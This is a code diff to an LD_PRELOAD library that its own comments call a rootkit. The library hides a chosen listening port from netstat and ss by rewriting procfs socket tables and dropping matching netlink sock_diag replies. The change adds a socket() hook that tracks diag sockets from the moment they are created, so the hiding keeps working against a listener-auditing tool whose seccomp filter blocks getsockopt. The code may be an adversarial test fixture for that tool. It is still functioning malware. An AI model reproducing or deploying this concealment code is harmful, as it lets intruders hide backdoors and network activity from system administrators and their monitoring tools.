@@ -12,7 +12,8 @@
  *     procfs file). fopen of such a file returns a tmpfile() holding the
  *     filtered copy (netstat reads the tables with fopen and fgets; glibc's
  *     stdio reads through its own internal read, which no preload reaches);
- *   - recvmsg/recv/recvfrom on a NETLINK_SOCK_DIAG socket drop the
+ *   - recvmsg/recv/recvfrom on a NETLINK_SOCK_DIAG socket (one socket()
+ *     made, or getsockopt says so) drop the
  *     SOCK_DIAG_BY_FAMILY records whose inet_diag_msg sport is N and close
  *     the gap (ss). A reply left empty is received again, so that the caller
  *     never sees a 0-byte datagram it would take for the end.
@@ -387,6 +388,7 @@ off64_t lseek64(int fd, off64_t off, int whence)
 }
 
 static int (*next_close)(int);
+static void forget_diag_fd(int fd);
 
 int close(int fd)
 {
@@ -395,6 +397,7 @@ int close(int fd)
         free(t->buf);
         *t = (struct tracked){.fd = -1, .buf = NULL, .len = 0, .off = 0};
     }
+    forget_diag_fd(fd);
     NEXT(next_close, "close");
     return next_close(fd);
 }
@@ -436,8 +439,38 @@ FILE *fopen64(const char *path, const char *mode)
 
 /* ---- NETLINK_SOCK_DIAG ---- */
 
+/* The sock_diag sockets this process made, as socket() returned them: a
+ * rootkit knows its sockets from their birth, and so it works in a process
+ * that cannot call getsockopt afterwards (the listeners CLI's seccomp
+ * filter refuses it). Others are asked with getsockopt. */
+static int diag_fds[16] = {-1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1};
+static int (*next_socket)(int, int, int);
+
+int socket(int domain, int type, int protocol)
+{
+    NEXT(next_socket, "socket");
+    int fd = next_socket(domain, type, protocol);
+    if (fd >= 0 && domain == AF_NETLINK && protocol == NETLINK_SOCK_DIAG)
+        for (size_t i = 0; i < sizeof(diag_fds) / sizeof(diag_fds[0]); i++)
+            if (diag_fds[i] < 0) {
+                diag_fds[i] = fd;
+                break;
+            }
+    return fd;
+}
+
+static void forget_diag_fd(int fd)
+{
+    for (size_t i = 0; i < sizeof(diag_fds) / sizeof(diag_fds[0]); i++)
+        if (diag_fds[i] == fd)
+            diag_fds[i] = -1;
+}
+
 static int is_sock_diag(int fd)
 {
+    for (size_t i = 0; i < sizeof(diag_fds) / sizeof(diag_fds[0]); i++)
+        if (diag_fds[i] == fd)
+            return 1;
     int v = 0;
     socklen_t l = sizeof(v);
     if (getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &v, &l) != 0 || v != AF_NETLINK)
